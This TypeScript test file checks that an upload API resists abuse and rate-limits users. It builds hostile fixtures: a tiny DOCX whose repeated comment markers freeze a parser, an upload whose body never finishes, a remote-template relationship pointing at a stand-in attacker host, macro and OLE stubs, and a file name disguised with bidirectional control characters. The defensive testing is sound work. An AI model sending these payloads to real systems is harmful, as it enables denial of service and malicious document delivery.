import { request as httpRequest, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { expectProblem } from './support/assertions';
import { buildZip, DOCX_MIME, pdfDocument, WORD_MAIN_TYPE, wordPackage } from './support/practice-helpers';
import { bearer, TestContext, TestRepresentative, TestUser } from './support/test-app';

/** Issue 8, findings 1 and 10: uploads that try to freeze the server, flood it, or carry risk. */

function upload(ctx: TestContext, user: TestUser, practiceId: string, content: Buffer, name: string) {
  return ctx.http
    .post(`/api/v1/practices/${practiceId}/attachments`)
    .set(...bearer(user))
    .attach('file', content, name);
}

const attachmentCount = (ctx: TestContext, practiceId: string) =>
  ctx.count('practice_attachments', 'practice_id = $1', [practiceId]);

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function relationshipPart(name: string, ...relationships: string[]) {
  return {
    name,
    content:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      relationships.join('') +
      '</Relationships>',
  };
}

const HYPERLINK = `<Relationship Id="rId9" Type="${RELATIONSHIPS}/hyperlink" Target="https://minjust.gov.kg/" TargetMode="External"/>`;
const REMOTE_TEMPLATE = `<Relationship Id="rId1" Type="${RELATIONSHIPS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`;

/** The 1.2 KB upload: a Word-looking ZIP whose content types are `<!--` × 262,143. */
function freezingDocx(): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', content: '<!--'.repeat(262_143) },
    { name: 'word/document.xml', content: '<w:document/>' },
  ]);
}

interface RawResponse {
  status: number;
  body: { code?: string };
  elapsedMs: number;
}

/**
 * Sends the headers and the first bytes of a multipart upload that declares 5 MiB, and never the
 * rest. A server that reads the body before deciding never answers (the promise rejects after
 * `timeoutMs`); one that decides first answers at once.
 */
async function uploadThatNeverFinishes(
  ctx: TestContext,
  user: TestUser,
  practiceId: string,
  timeoutMs = 5000,
): Promise<RawResponse> {
  const server: Server = ctx.app.getHttpServer();
  // supertest listens on its own while its requests run; reuse that listener rather than fight it.
  const ownListener = !server.listening;
  if (ownListener) {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  }
  const { port } = server.address() as AddressInfo;
  const boundary = 'portal-test-boundary';
  const started = performance.now();
  try {
    return await new Promise<RawResponse>((resolve, reject) => {
      const timer = setTimeout(() => {
        request.destroy();
        reject(new Error(`no answer within ${timeoutMs} ms: the server waited for the body`));
      }, timeoutMs);
      const request = httpRequest(
        {
          host: '127.0.0.1',
          port,
          method: 'POST',
          path: `/api/v1/practices/${practiceId}/attachments`,
          headers: {
            authorization: `Bearer ${user.accessToken}`,
            'content-type': `multipart/form-data; boundary=${boundary}`,
            'content-length': 5 * 1024 * 1024,
          },
        },
        (response) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => {
            clearTimeout(timer);
            resolve({
              status: response.statusCode ?? 0,
              body: JSON.parse(Buffer.concat(chunks).toString('utf8')) as { code?: string },
              elapsedMs: performance.now() - started,
            });
            request.destroy();
          });
        },
      );
      request.on('error', reject);
      request.write(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n` +
          'Content-Type: application/pdf\r\n\r\n%PDF-1.4\n',
      );
    });
  } finally {
    if (ownListener) {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  }
}

describe('uploads: abuse', () => {
  let ctx: TestContext;
  let rep: TestRepresentative;

  beforeAll(async () => {
    ctx = await TestContext.start();
    rep = await ctx.newRepresentative('M-DOSTUK');
  });
  afterAll(() => ctx.close());

  describe('the crafted DOCX of finding 1', () => {
    it("answers 415 within 1 s on the representative's own draft, /health answering meanwhile", async () => {
      const { id } = await ctx.newPractice(rep);
      const freezer = freezingDocx();
      expect(freezer.length).toBeLessThan(1400);
      // The same path once with an ordinary file, so the timing below is not the first request's.
      expect((await upload(ctx, rep, id, pdfDocument(), 'warm-up.pdf')).status).toBe(201);

      let uploadDone = false;
      const started = performance.now();
      const uploaded = upload(ctx, rep, id, freezer, 'report.docx').then((response) => {
        uploadDone = true;
        return { response, elapsedMs: performance.now() - started };
      });
      const healthTimes: number[] = [];
      do {
        const healthStarted = performance.now();
        await ctx.http.get('/health').timeout(1000).expect(200);
        healthTimes.push(performance.now() - healthStarted);
      } while (!uploadDone);

      const { response, elapsedMs } = await uploaded;
      expectProblem(response, 415, 'unsupported_file_type');
      expect(elapsedMs).toBeLessThan(1000);
      expect(Math.max(...healthTimes)).toBeLessThan(1000);
      expect(await attachmentCount(ctx, id)).toBe(1);
    });
  });

  describe('the practice is checked before the body is read', () => {
    it('answers 404 for an unknown practice without waiting for the body', async () => {
      const response = await uploadThatNeverFinishes(ctx, rep, '00000000-0000-4000-8000-000000000000');
      expect(response).toMatchObject({ status: 404, body: { code: 'practice_not_found' } });
      expect(response.elapsedMs).toBeLessThan(2000);
    });

    it("answers 404 for another municipality's draft without waiting for the body", async () => {
      const other = await ctx.newRepresentative('M-SADOVOE');
      const { id } = await ctx.newPractice(other);
      const response = await uploadThatNeverFinishes(ctx, rep, id);
      expect(response).toMatchObject({ status: 404, body: { code: 'practice_not_found' } });
      expect(await attachmentCount(ctx, id)).toBe(0);
    });

    it('answers 409 for a submitted practice of its own without waiting for the body', async () => {
      const { id } = await ctx.newPractice(rep, 'submitted');
      const response = await uploadThatNeverFinishes(ctx, rep, id);
      expect(response).toMatchObject({ status: 409, body: { code: 'wrong_status' } });
    });
  });

  describe('risky documents (finding 10)', () => {
    it('accepts a DOCX whose only external targets are hyperlinks', async () => {
      const { id } = await ctx.newPractice(rep);
      const report = wordPackage(WORD_MAIN_TYPE, [
        relationshipPart('word/_rels/document.xml.rels', HYPERLINK),
      ]);
      const response = await upload(ctx, rep, id, report, 'report.docx');
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({ mimeType: DOCX_MIME, fileName: 'report.docx' });
    });

    it.each([
      [
        'a remote template',
        [relationshipPart('word/_rels/settings.xml.rels', REMOTE_TEMPLATE)],
        'external_content_document',
      ],
      [
        'an embedded OLE object',
        [{ name: 'word/embeddings/oleObject1.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }],
        'embedded_object_document',
      ],
      ['an ActiveX control', [{ name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' }], 'macro_document'],
      [
        'a VBA project',
        [{ name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }],
        'macro_document',
      ],
    ])('refuses a DOCX carrying %s with 415 and keeps nothing', async (_label, entries, code) => {
      const { id } = await ctx.newPractice(rep);
      const document = wordPackage(WORD_MAIN_TYPE, entries);
      expectProblem(await upload(ctx, rep, id, document, 'report.docx'), 415, code);
      expect(await attachmentCount(ctx, id)).toBe(0);
    });
  });

  describe('file names (finding 10)', () => {
    it('stores and serves the name with the extension of the detected type', async () => {
      const { id } = await ctx.newPractice(rep);
      const response = await upload(ctx, rep, id, pdfDocument(), 'report.exe');
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({ mimeType: 'application/pdf', fileName: 'report.pdf' });
      const served = await ctx.http
        .get(response.body.url)
        .set(...bearer(rep))
        .expect(200);
      expect(served.headers['content-disposition']).toBe("attachment; filename*=UTF-8''report.pdf");
    });

    it('strips bidirectional controls, so a name cannot pose as another type', async () => {
      const { id } = await ctx.newPractice(rep);
      const name = '\u200fсчёт\u202efdp.exe\u2066\u061c';
      const response = await upload(ctx, rep, id, pdfDocument(), name);
      expect(response.status).toBe(201);
      expect(response.body.fileName).toBe('счётfdp.pdf');
      const [row] = await ctx.db.query('SELECT file_name FROM practice_attachments WHERE id = $1', [
        response.body.id,
      ]);
      expect(row.file_name).toBe('счётfdp.pdf');
    });
  });
});

describe('uploads: the per-user rate limit', () => {
  let ctx: TestContext;
  let rep: TestRepresentative;

  beforeAll(async () => {
    ctx = await TestContext.start({ RATE_LIMIT_UPLOADS_PER_USER_PER_HOUR: '3' });
    rep = await ctx.newRepresentative('M-DOSTUK');
  });
  afterAll(() => ctx.close());

  it('answers 429 with Retry-After past the limit, keeps nothing, and leaves other users alone', async () => {
    const { id } = await ctx.newPractice(rep);
    for (let index = 1; index <= 3; index++) {
      expect((await upload(ctx, rep, id, pdfDocument(`${index}`), `${index}.pdf`)).status).toBe(201);
    }
    const refused = await upload(ctx, rep, id, pdfDocument('4'), '4.pdf');
    expectProblem(refused, 429, 'rate_limited');
    const retryAfter = Number(refused.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(3600);
    expect(await attachmentCount(ctx, id)).toBe(3);

    const colleague = await ctx.newRepresentative('M-DOSTUK');
    expect((await upload(ctx, colleague, id, pdfDocument('5'), '5.pdf')).status).toBe(201);
  });
});
